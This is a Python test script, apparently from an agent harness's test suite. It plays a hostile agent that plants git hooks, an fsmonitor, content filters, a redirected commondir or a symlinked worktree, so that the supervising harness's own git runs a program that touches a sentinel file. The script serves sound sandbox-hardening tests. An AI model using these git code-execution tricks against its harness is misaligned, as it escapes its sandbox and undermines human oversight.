"""Fake hostile agent: plants a program for ralph's own git to run, or points ralph's git at
another repository, then says CONTINUE. Usage: git_attacker.py ATTACK SENTINEL [TARGET]. The
program it plants writes the file SENTINEL (outside the project): if it appears, ralph ran it.

Attacks (each tolerates the sandbox refusing part of it: what it could not write, it says):
- commondir: a copy of .git with core.hooksPath and an fsmonitor, made the repository's
  common dir by writing .git/commondir (or .git/worktrees/<lane>/commondir in a lane).
- hooks: hooks in .git/hooks and an fsmonitor in .git/config (an agent without a sandbox).
- filter: a clean filter, a textconv and a merge driver for every file (.git/info/attributes,
  .git/config), and a tracked file changed so that git must clean it.
- link: the lane's worktree swapped for a link to TARGET, another repository.
- nogit: the lane's worktree swapped for a link to TARGET, a folder that is not a repository.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path


def program(sentinel: str) -> str:
    return f"#!/bin/sh\ntouch '{sentinel}'\ncat\n"


def git_dir() -> Path:
    out = subprocess.run(
        ["git", "rev-parse", "--absolute-git-dir"], capture_output=True, text=True, check=True
    )
    return Path(out.stdout.strip())


def try_write(path: Path, text: str, mode: str = "w") -> None:
    try:
        with path.open(mode) as f:
            f.write(text)
        print(f"wrote {path.name}")
    except OSError as exc:
        print(f"refused {path.name}: {exc.strerror}")


def commondir(sentinel: str) -> None:
    here = git_dir()
    common = (
        here
        if not (here / "commondir").exists()
        else (here / (here / "commondir").read_text().strip()).resolve()
    )
    copy = Path.cwd() / "evil.git"
    shutil.copytree(common, copy, ignore=shutil.ignore_patterns("worktrees"))
    hooks = copy / "evil-hooks"
    hooks.mkdir()
    for name in ("post-index-change", "pre-commit", "post-commit", "post-merge", "fsmonitor"):
        (hooks / name).write_text(program(sentinel))
        (hooks / name).chmod(0o755)
    with (copy / "config").open("a") as f:
        f.write(f"[core]\n\thooksPath = {hooks}\n\tfsmonitor = {hooks / 'fsmonitor'}\n")
    try_write(here / "commondir", f"{copy}\n")


def common_dir(here: Path) -> Path:
    if not (here / "commondir").exists():
        return here
    return (here / (here / "commondir").read_text().strip()).resolve()


def hooks(sentinel: str) -> None:
    """Hooks where git looks for them, and an fsmonitor: written where the sandbox allows."""
    here = common_dir(git_dir())
    for name in ("post-index-change", "pre-commit", "post-commit", "post-merge"):
        try_write(here / "hooks" / name, program(sentinel))
        if (here / "hooks" / name).exists():
            (here / "hooks" / name).chmod(0o755)
    script = Path.cwd() / "evil-monitor.sh"
    script.write_text(program(sentinel))
    script.chmod(0o755)
    try_write(here / "config", f"[core]\n\tfsmonitor = {script}\n", "a")
    Path("new.txt").write_text("new\n")
    for tracked in Path.cwd().glob("a.txt"):
        text = tracked.read_text()
        time.sleep(0.01)
        tracked.write_text(text[::-1])


def filters(sentinel: str) -> None:
    here = common_dir(git_dir())
    script = Path.cwd() / "evil-filter.sh"
    script.write_text(program(sentinel))
    script.chmod(0o755)
    info = here / "info"
    info.mkdir(exist_ok=True)
    try_write(info / "attributes", "* filter=evil diff=evil merge=evil\n")
    config = (
        f'[filter "evil"]\n\tclean = {script}\n\tsmudge = {script}\n\trequired = true\n'
        f'[diff "evil"]\n\ttextconv = {script}\n\tcommand = {script}\n'
        f'[merge "evil"]\n\tdriver = {script}\n'
    )
    common = (
        here
        if not (here / "commondir").exists()
        else (here / (here / "commondir").read_text().strip()).resolve()
    )
    try_write(common / "config", config, "a")
    # Same size, newer time: git must read a.txt (through the clean filter) to tell.
    for tracked in Path.cwd().glob("a.txt"):
        text = tracked.read_text()
        time.sleep(0.01)
        tracked.write_text(text[::-1])
    Path("new.txt").write_text("new\n")


def swap(target: str) -> None:
    here = Path.cwd()
    os.chdir("/")
    here.rename(here.with_name(here.name + "-moved"))
    here.symlink_to(target)
    print(f"swapped {here.name} for a link to {target}")


def main() -> int:
    attack = sys.argv[1]
    sentinel = sys.argv[2]
    if attack == "commondir":
        commondir(sentinel)
    elif attack == "hooks":
        hooks(sentinel)
    elif attack == "filter":
        filters(sentinel)
    elif attack in ("link", "nogit"):
        swap(sys.argv[3])
    print("<ralph>CONTINUE</ralph>", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
